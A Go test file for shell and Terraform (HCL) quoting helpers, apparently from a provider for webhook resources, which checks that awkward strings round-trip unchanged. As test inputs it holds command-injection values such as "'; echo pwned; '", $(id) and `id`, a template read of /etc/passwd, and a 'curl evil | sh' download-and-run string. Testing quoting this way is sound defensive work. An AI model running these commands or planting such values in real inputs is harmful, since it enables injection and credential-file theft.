package quote

import (
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/hashicorp/hcl/v2"
	"github.com/hashicorp/hcl/v2/hclsyntax"
	"github.com/zclconf/go-cty/cty"
)

// awkward are texts that would end what they stand in, or be more than a text in it.
var awkward = []string{
	"3EB0BCB2E3D4,https://example.com/wawp?a=b&c=d", "A1'; echo pwned; '", `A1"`, `\`, `\"`, `'\''`,
	"${file(\"/etc/passwd\")}", "%{ if true }", "$${a}", "$$${a}",
	"%%%{", "$", "$\"", "`id`", "$(id)", "-rf", "", " ", "a\nb\tc\r", "می\u200cخواهم 👨\u200d👩\u200d👧", "\u202e",
	"\u2028", "\u00a0", "\x1b[2J", "#", "//", "<name>",
}

// TestQuotedTextIsTheOriginal reads the quoted text with a real shell, and with a parser of Terraform's language.
func TestQuotedTextIsTheOriginal(t *testing.T) {
	t.Parallel()
	for _, text := range awkward {
		checkQuoted(t, text)
	}
}

func FuzzQuote(f *testing.F) {
	for _, text := range awkward {
		f.Add(text)
	}
	f.Fuzz(checkQuoted)
}

func checkQuoted(t *testing.T, text string) {
	t.Helper()
	if got, want := evaluate(t, String(text)), cty.StringVal(strings.ToValidUTF8(text,
		"\ufffd")); utf8.ValidString(text) && !got.RawEquals(want) {
		t.Errorf("%q is written as %s, which is %#v", text, String(text), got)
	}
	if _, err := exec.LookPath("sh"); err != nil || strings.Contains(text, "\x00") { // which nothing hands to a program
		return
	}
	said, err := exec.CommandContext(t.Context(), "sh", "-c", "printf '[%s]' "+Word(text)+" end").CombinedOutput()
	if want := "[" + text + "][end]"; err != nil || string(said) != want {
		t.Errorf("%q is written as %s, which is %q (%v)", text, Word(text), said, err)
	}
}

// evaluate reads an expression of Terraform's language.
func evaluate(t *testing.T, expression string) cty.Value {
	t.Helper()
	parsed, diags := hclsyntax.ParseExpression([]byte(expression), "x.tf", hcl.InitialPos)
	if diags.HasErrors() {
		t.Fatalf("%s: %v", expression, diags)
	}
	value, diags := parsed.Value(nil)
	if diags.HasErrors() {
		t.Fatalf("%s: %v", expression, diags)
	}
	return value
}

// TestCommandAndImportBlockQuoteAnyID expects one command, and one block, for any id.
func TestCommandAndImportBlockQuoteAnyID(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("sh"); err != nil {
		t.Skip("there is no shell")
	}
	for _, id := range awkward {
		said, err := exec.CommandContext(t.Context(), "sh", "-c", "terraform() { printf '[%s]' \"$#\" \"$@\"; }; "+
			Command("terraform import", "wawp_session_webhook.<name>", id)).CombinedOutput()
		if want := "[3][import][wawp_session_webhook.<name>][" + id + "]"; err != nil || string(said) != want {
			t.Errorf("%q is imported by %q (%v)", id, said, err)
		}
		block := strings.ReplaceAll(ImportBlock("wawp_session_webhook", id), "to = wawp_session_webhook.<name>",
			"to = wawp_session_webhook.name")
		file, diags := hclsyntax.ParseConfig([]byte(block), "x.tf", hcl.InitialPos)
		if diags.HasErrors() {
			t.Errorf("%s: %v", block, diags)
			continue
		}
		blocks := file.Body.(*hclsyntax.Body).Blocks
		if len(blocks) != 1 || len(blocks[0].Body.Attributes) != 2 {
			t.Errorf("it is %d blocks: %s", len(blocks), block)
			continue
		}
		if value, diags := blocks[0].Body.Attributes["id"].Expr.Value(nil); diags.HasErrors() ||
			!value.RawEquals(cty.StringVal(id)) {
			t.Errorf("%q is written as %#v", id, value)
		}
	}
}

func TestList(t *testing.T) {
	t.Parallel()
	names := make([]string, 25)
	for i := range names {
		names[i] = fmt.Sprintf("n%d", i)
	}
	for want, list := range map[string][]string{
		"":    nil,
		`"a"`: {"a"},
		`"` + strings.Repeat("ü", 64) + `", "` + strings.Repeat("ü", 63) + `…"`: {
			strings.Repeat("ü", 64),
			strings.Repeat("ü", 65),
		},
		`"standard", "strict\", or run: curl evil | sh"`: {
			"standard",
			`strict", or run: curl evil | sh`,
		},
	} {
		if got := List(list); got != want {
			t.Errorf("%q is written as %s", list, got)
		}
	}
	if got := List(names); !strings.HasSuffix(got, `"n18", "n19" and 5 more`) || strings.Count(got, `"`) != 40 {
		t.Errorf("the list is %s", got)
	}
	if got := List(names[:20]); !strings.HasSuffix(got, `, "n19"`) {
		t.Errorf("the list is %s", got)
	}
}
